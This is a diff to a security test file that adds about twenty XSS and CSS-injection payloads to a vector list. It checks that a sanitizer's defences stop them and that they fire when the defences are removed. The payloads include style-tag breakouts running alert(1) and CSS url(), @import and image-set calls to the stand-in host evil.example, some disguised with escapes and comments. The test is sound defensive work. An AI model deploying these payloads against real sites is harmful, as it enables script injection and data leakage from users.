@@ -43,6 +43,27 @@ OWN_VECTORS = [
     "<p style='content:url(https://evil.example/);cursor:url(https://evil.example/),auto'>x",
     "<style>@import 'https://evil.example/'; @font-face{font-family:f;src:url(https://evil.example/f)} p{font-family:f}"
     "body{background:image-set('https://evil.example/i' 1x)}</style><p>x",
+    "<style>p{background:url(https://evil.example/s1)}</style><p>x",
+    "<style>p{list-style:url('https://evil.example/s2');display:list-item}</style><p>x",
+    "<style>p::before{content:url(https://evil.example/s3)}p{cursor:url(https://evil.example/s4),auto}</style><p>x",
+    "<style>@media screen{@import url(https://evil.example/s5);p{mask:url(https://evil.example/s6)}}</style><p>x",
+    "<style>a[href^='https://s']{background:url(https://evil.example/s7)}</style><a href=https://s.example>x</a>",
+    "<style>p{--u:url(https://evil.example/s8);background:var(--u)}</style><p>x",
+    "<style>p{back\\67round:u\\72l(https://evil.example/s9)}</style><p>x",
+    "<style>p{background:u/**/rl(https://evil.example/s10);background:url(/*)*/https://evil.example/s11)}</style><p>x",
+    "<style>@font-face{font-family:f;src:url(https://evil.example/s12)}@namespace url(https://evil.example/s13);"
+    "p{font-family:f}</style><p>x",
+    "<style>p:has(a){background:image-set('https://evil.example/s14' 1x)}</style><p><a>x</a>",
+    "<style>p{color:red</style><img src=x onerror=alert(1)><style>}</style>",
+    "<style>a{b:'</style><script>alert(1)</script>'}</style>",
+    "<style><!--</style><script>alert(1)</script>--></style>",
+    "<style>p{x:expression(alert(1));behavior:url(https://evil.example/s15);-moz-binding:url(https://evil.example/s16)}"
+    "</style><p>x",
+    "<style>\\3c/style>\\3cscript>alert(1)\\3c/script></style><p style='color:\\3c/style>\\3cimg onerror=alert(1)>'>x",
+    "<style media='screen{}</style><script>alert(1)</script>'>p{color:red}</style>",
+    "<style>@media screen</style><script>alert(1)</script>{p{color:red}}</style>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<title><style></title><img src=x onerror=alert(1)></style>",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
     "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
@@ -77,7 +98,7 @@ def test_without_all_walls_the_same_vectors_are_seen_to_attack(watched, site):
     seen = watched(put_frames(site, OWN_VECTORS[:-2], without=WALLS))
 
     assert len([event for event in seen if event.startswith("dialog")]) >= 10
-    for what in ("pixel.gif", "x.css", "/b", "evil.example/v"):
+    for what in ("pixel.gif", "x.css", "/b", "evil.example/v", "s1", "s2", "s8", "s9", "s14"):
         assert any(event.startswith("request") and what in event for event in seen), what
     assert any("page taken" in event for event in watched(put_frames(site, OWN_VECTORS[-1:], without=WALLS)))
 
